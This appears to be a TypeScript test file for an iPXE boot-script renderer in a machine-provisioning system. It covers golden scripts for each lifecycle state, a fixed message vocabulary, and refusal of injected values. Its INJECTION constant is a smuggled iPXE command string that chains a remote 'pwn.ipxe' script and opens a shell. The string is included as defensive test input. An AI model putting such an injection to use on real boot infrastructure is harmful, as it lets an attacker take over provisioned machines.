import { test } from 'node:test'
import assert from 'node:assert/strict'
import { join } from 'node:path'
import { MachineState } from '../inventory/machine.ts'
import { BootMessage, planBoot } from '../provisioning/boot-planner.ts'
import { renderMachineScript, type AgentBoot } from './ipxe-script.ts'
import { assertGolden } from '../../test/helpers/golden.ts'

const GOLDEN = join(import.meta.dirname, '../../test/fixtures/ipxe/states')
const BASE = 'http://10.77.0.1:8080'
const AGENT: AgentBoot = { grpc: '10.77.0.1:8443', token: 'tok_EN-0123456789abcdefABCDEF', fingerprint: 'ab'.repeat(32) }
// eslint-disable-next-line no-template-curly-in-string -- an iPXE setting, on purpose
const INJECTION = 'disk busy ; chain http://192.0.2.66/pwn.ipxe ; echo && shell || ${net0/ip}'

test('one golden script per lifecycle state, with the discovery environment built and without', () => {
  for (const state of Object.values(MachineState)) {
    for (const bootenv of [true, false]) {
      const plan = planBoot({ state }, { bootenv, recheckSeconds: 30 })
      const script = renderMachineScript({ id: 'm-0000test', state }, plan, BASE, AGENT)
      assertGolden(script, join(GOLDEN, `${state}${bootenv ? '' : '-no-bootenv'}.ipxe`))
      // iPXE splits a line at ; && || (a command separator even inside echo): only our URLs may hold &.
      for (const line of script.split('\n').filter(l => l.startsWith('echo'))) assert.ok(!/;|&&|\|\|/.test(line), `${state}: ${line}`)
    }
  }
})

test('every message a script prints is from the fixed vocabulary', () => {
  const vocabulary = new Set<string>(Object.values(BootMessage))
  for (const state of Object.values(MachineState)) {
    const plan = planBoot({ state }, { bootenv: true, recheckSeconds: 30 })
    assert.ok(vocabulary.has(plan.message), state)
    for (const message of vocabulary) assert.ok(!/[;&|$]/.test(message), `no iPXE syntax in "${message}"`)
  }
})

test('values that are not ours are refused, never rendered', () => {
  const plan = planBoot({ state: 'discovered' }, { bootenv: true, recheckSeconds: 30 })
  assert.throws(() => renderMachineScript({ id: `m-1 ; ${INJECTION}`, state: 'discovered' }, plan, BASE, AGENT), /refusing to render/)
  assert.throws(() => renderMachineScript({ id: 'm-1', state: 'discovered' }, plan, BASE, { ...AGENT, token: `x ${INJECTION}` }), /refusing to render/)
})
